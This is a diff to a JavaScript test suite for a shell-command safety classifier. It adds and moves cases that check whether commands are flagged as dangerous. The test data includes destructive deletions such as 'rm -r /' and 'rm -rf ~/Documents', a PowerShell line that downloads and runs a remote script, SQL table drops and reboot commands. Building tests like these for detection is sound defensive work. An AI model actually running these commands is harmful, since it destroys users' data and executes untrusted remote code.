@@ -97,7 +97,8 @@ describe('commands: files and disks', () => {
       'rm -rf $(pwd)',
       'rm -rf node_modules ~/Documents',
       'rm -rf /tmp/../etc',
-      'rm -rf',
+      'find . -name "*.tmp" | xargs rm -rf',
+      'xargs -0 rm -rf < list.txt',
       'rm -r /',
       'rm -r ~/',
       'find . -name "*.log" -delete',
@@ -136,6 +137,7 @@ describe('commands: files and disks', () => {
       'rm -rf $TMPDIR/build',
       'rm -rf "${TMPDIR:-/tmp}/build"',
       'rm -f file.txt',
+      'rm -rf',
       'rm -r old-dir',
       'rm file1 file2',
       'rm --help',
@@ -369,6 +371,17 @@ describe('commands: quoting, wrappers and nesting', () => {
     ]) {
       assert.deepEqual(familiesOf(sample), ['vcs'], JSON.stringify(sample));
     }
+  });
+
+  it('matches program names as a POSIX shell does: case-sensitive, except SQL keywords and Windows commands', () => {
+    assertSafe(['Shutdown the server gracefully before upgrading.', 'Halt and catch fire', 'GIT reset --hard']);
+    assertFamily('sql', ['drop table users', 'Drop Table users;']);
+    assertFamily('remoteCode', ['IRM https://example.com/x.ps1 | IEX']);
+  });
+
+  it('reads code that calls functions as a shell would: a name glued to "(" is a syntax error, not a command', () => {
+    assertSafe(['halt(stream)', "worker.send('shutdown');", "reboot('now')", 'if (x) { shutdown(); }', "('reboot')"]);
+    assertFamily('system', ['reboot', '(reboot)', 'sudo reboot now']);
   });
 
   it('reads prose without swallowing it: apostrophes and unmatched quotes are text', () => {
